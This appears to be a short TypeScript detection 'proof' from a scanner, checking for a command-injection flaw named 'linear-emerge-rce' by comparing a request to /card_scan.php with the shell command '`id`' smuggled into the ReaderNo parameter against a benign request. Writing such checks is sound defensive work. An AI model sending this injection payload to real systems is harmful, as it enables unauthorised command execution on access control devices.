import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'linear-emerge-rce',
    get('/card_scan.php?No=30&ReaderNo=`id`&CardFormatNo=1'),
    get('/card_scan.php?No=30&ReaderNo=1'),
  ),
]
